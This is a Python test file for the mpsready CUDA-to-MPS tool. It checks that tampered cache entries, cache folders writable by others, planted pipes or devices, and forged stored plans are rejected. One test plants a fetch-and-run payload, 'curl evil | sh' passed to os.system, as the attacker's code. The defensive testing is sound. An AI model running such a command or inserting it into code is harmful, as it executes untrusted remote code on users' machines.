"""Caches that cannot lie (issue 34 item 4): an edited or planted entry, a cache folder of someone else's or
writable by others, a pipe or ``/dev/zero`` planted as an entry, a stored plan planted for ``--apply``."""

import json
import os
import threading

import pytest

from mpsready import cachefiles
from mpsready.cli import main
from mpsready.migrate import stored
from mpsready.scan import ScanConfig, scan_path
from tests.scan.conftest import rows

CUDA = "import torch\nx = torch.ones(1).cuda()\n"


def _entry(cache):
    (f,) = [p for p in cache.iterdir() if p.name.startswith("scan-")]
    return f


def test_an_edited_entry_is_a_miss_not_a_verdict(write_project, tmp_path):
    root = write_project({"ok.py": CUDA})
    cache = tmp_path / "cache"
    scan_path(root, ScanConfig(cache_dir=cache))
    f = _entry(cache)
    head, payload = f.read_bytes().split(b"\n", 1)
    doc = json.loads(payload)
    for v in doc["entries"].values():
        v["findings"] = []  # what an attacker wants: the .cuda() call forgotten
    f.write_bytes(head + b"\n" + json.dumps(doc).encode())  # the old MAC, or none at all below
    assert rows(scan_path(root, ScanConfig(cache_dir=cache))) == [("API101", "ok.py", 2, "blocker")]
    f.write_bytes(json.dumps(doc).encode())
    assert rows(scan_path(root, ScanConfig(cache_dir=cache))) == [("API101", "ok.py", 2, "blocker")]


def test_a_folder_writable_by_others_is_not_used(write_project, tmp_path, capsys):
    root = write_project({"ok.py": CUDA})
    cache = tmp_path / "shared"
    cache.mkdir()
    os.chmod(cache, 0o777)
    scan_path(root, ScanConfig(cache_dir=cache))
    assert list(cache.iterdir()) == []  # nothing written there, nothing read
    assert f"mpsready: the cache folder {cache} is writable by others (mode 777); the cache is not used\n" \
        in capsys.readouterr().err


@pytest.mark.parametrize("plant", ["fifo", "dev-zero", "huge"])
def test_a_planted_pipe_or_device_is_neither_waited_on_nor_read(write_project, tmp_path, plant, monkeypatch):
    root = write_project({"ok.py": CUDA})
    cache = tmp_path / "cache"
    scan_path(root, ScanConfig(cache_dir=cache))
    f = _entry(cache)
    f.unlink()
    if plant == "fifo":
        os.mkfifo(f)
    elif plant == "dev-zero":
        os.symlink("/dev/zero", f)
    else:
        monkeypatch.setattr(cachefiles, "MAX_ENTRY", 10)
        f.write_bytes(b"x" * 11)
    done = []
    t = threading.Thread(target=lambda: done.append(rows(scan_path(root, ScanConfig(cache_dir=cache)))),
                         daemon=True)
    t.start()
    t.join(60)  # a bound on a hang, not a timing: the read used to block for ever
    assert done == [[("API101", "ok.py", 2, "blocker")]]


def test_a_planted_stored_plan_is_never_applied(tmp_path, capsys, monkeypatch):
    root = tmp_path / "proj"
    root.mkdir()
    (root / "train.py").write_text(CUDA)
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    assert main(["migrate", str(root), "--cache-dir", str(cache)]) == 0
    path = stored.store_path(cache, root)
    doc = json.loads(cachefiles.unseal(cachefiles.secret(cache), path.read_bytes()))
    doc["plan"]["files"][0]["after"] = "import os\nos.system('curl evil | sh')\n"
    path.write_text(json.dumps(doc))  # planted without the user's key
    capsys.readouterr()
    assert main(["migrate", str(root), "--apply", "--cache-dir", str(cache)]) == 0
    err = capsys.readouterr().err
    assert err.splitlines()[0] == ("mpsready migrate: planning again: the stored plan's MAC does not check (not "
                                   "written by this user's mpsready)")
    assert "os.system" not in (root / "train.py").read_text()


def test_the_stored_plan_is_shown_before_apply_writes_it(tmp_path, capsys):
    root = tmp_path / "proj"
    root.mkdir()
    (root / "train.py").write_text(CUDA)
    cache = tmp_path / "cache"
    assert main(["migrate", str(root), "--cache-dir", str(cache)]) == 0
    shown = capsys.readouterr().out
    assert main(["migrate", str(root), "--apply", "--cache-dir", str(cache)]) == 0
    out = capsys.readouterr()
    assert out.out == shown and out.err.startswith("mpsready migrate: applying the plan shown at ")
